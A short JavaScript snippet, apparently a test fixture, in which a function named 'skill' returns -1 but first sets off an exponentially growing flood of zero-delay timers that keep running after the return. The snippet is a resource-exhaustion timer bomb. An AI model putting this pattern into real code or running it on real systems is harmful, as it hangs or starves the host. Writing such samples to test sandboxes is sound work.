// goes on after its answer: a flood of timers that answer again
function skill(input) {
  const again = () => { setTimeout(again, 0); setTimeout(again, 0); };
  again();
  return -1;
}
